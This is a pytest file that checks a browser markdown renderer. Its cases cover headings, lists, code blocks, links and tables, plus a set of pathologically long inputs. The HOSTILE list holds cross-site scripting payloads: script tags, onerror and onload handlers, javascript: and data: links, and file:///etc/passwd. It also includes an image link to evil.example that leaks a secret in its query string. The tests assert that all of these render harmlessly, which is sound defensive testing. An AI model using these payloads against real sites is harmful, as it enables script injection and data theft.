# SPDX-License-Identifier: AGPL-3.0-or-later
"""Markdown becomes what its writer meant, and nothing hostile becomes anything at all."""

import re

import pytest

from tests.api.daemon import Daemon
from tests.browser.conftest import Visit

RENDER = """
(text) => import("/markdown.mjs").then(({ render }) => {
  const box = document.createElement("div");
  box.append(render(text, (button) => { button.textContent = "copy"; }));
  return box.innerHTML;
})
"""

A = '<a href="https://e.org/" target="_blank" rel="noopener noreferrer">'
CODE = '<figure class="code"><figcaption><span>{}</span><button type="button" class="copy">copy'
CODE += '</button></figcaption><pre tabindex="0"><code>{}</code></pre></figure>'

CASES = [
    ("plain", "<p>plain</p>"),
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("**b** *i* _i_ `c` ~~d~~", None),
    ("**b**", "<p><strong>b</strong></p>"),
    ("***both***", "<p><strong><em>both</em></strong></p>"),
    ("a_b_c and 2 * 3 * 4", "<p>a_b_c and 2 * 3 * 4</p>"),
    ("中文**加粗**和*斜体*。", "<p>中文<strong>加粗</strong>和<em>斜体</em>。</p>"),
    ("`a **b**`", "<p><code>a **b**</code></p>"),
    ("``a ` b``", "<p><code>a ` b</code></p>"),
    (r"\*not\*", "<p>*not*</p>"),
    ("# One\n### Three", "<h3>One</h3><h5>Three</h5>"),
    ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
    ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
    ("3. a", '<ol start="3"><li>a</li></ol>'),
    ("- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
    ("1. a\n   - b\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
    ("- a\n\n- b", "<ul><li>a</li><li>b</li></ul>"),
    ("Steps:\n1. a", "<p>Steps:</p><ol><li>a</li></ol>"),
    ("in the year\n2020. Good", "<p>in the year<br>2020. Good</p>"),
    ("> q\n> r", "<blockquote><p>q<br>r</p></blockquote>"),
    ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
    ("```py\nx < 1\n```", CODE.format("py", "x &lt; 1")),
    ("```\nnot closed", CODE.format("", "not closed")),
    ("````\n```\n````", CODE.format("", "```")),
    ("[w](https://e.org/)", f"<p>{A}w</a></p>"),
    ("see https://e.org/.", f"<p>see {A}https://e.org/</a>.</p>"),
    ("看https://e.org/，好", f"<p>看{A}https://e.org/</a>，好</p>"),
    ("<https://e.org/>", f"<p>{A}https://e.org/</a></p>"),
    ("![x](https://e.org/)", f"<p>{A}x</a></p>"),
    ("| a | b |\n|---|:-:|\n| 1 | 2 |", None),
    ("[w](/local)", "<p>[w](/local)</p>"),
    ("a < b && c > d", "<p>a &lt; b &amp;&amp; c &gt; d</p>"),
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/leak.png?q=secret)",
    '[x](https://e.org/"onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>x</a>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|---|\n| <b> |",
    "# <iframe src=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0>",
    "https://e.org/<script>alert(1)</script>",
]

ENDLESS = [
    "*" * 20_000,
    "_a" * 20_000,
    "**a" * 10_000,
    "[" * 20_000,
    "[a](" * 8_000,
    "`" * 9_999 + "a",
    "> " * 5_000 + "deep",
    "- " * 5_000 + "deep",
    "\n".join("  " * depth + "- x" for depth in range(300)),
    "|" * 10_000 + "\n" + "|-" * 5_000,
    "https://" * 5_000,
    "~~" * 10_000,
    "a\n" * 20_000,
]


@pytest.fixture
def rendered(daemon: Daemon, visit: Visit):  # pyright: ignore
    page = visit()
    return lambda text: page.evaluate(RENDER, text)


def test_each_form_becomes_what_it_means(rendered) -> None:  # pyright: ignore
    got = {text: rendered(text) for text, html in CASES if html is not None}
    assert got == {text: html for text, html in CASES if html is not None}
    mixed = rendered(CASES[2][0])
    assert [f"<{tag}>" in mixed for tag in ("strong", "em", "code", "del")] == [True] * 4
    table = rendered("| a | b |\n|---|:-:|\n| 1 | 2 |")
    assert "<th>a</th><th>b</th>" in table
    assert "<td>1</td><td>2</td>" in table


def test_hostile_words_stay_words(rendered) -> None:  # pyright: ignore
    for text in HOSTILE:
        html = rendered(text)
        for tag in ("script", "img", "svg", "iframe", "style", "meta", "object", "b"):
            assert not re.search(rf"<{tag}[\s/>]", html), text
        for scheme in ("javascript:", "data:", "vbscript:", "file:", "java"):
            assert f'href="{scheme}' not in html.lower(), text
        assert " on" not in html.partition("<a ")[2].partition(">")[0], text


def test_endless_forms_come_to_an_end(rendered) -> None:  # pyright: ignore
    for text in ENDLESS:
        assert rendered(text)
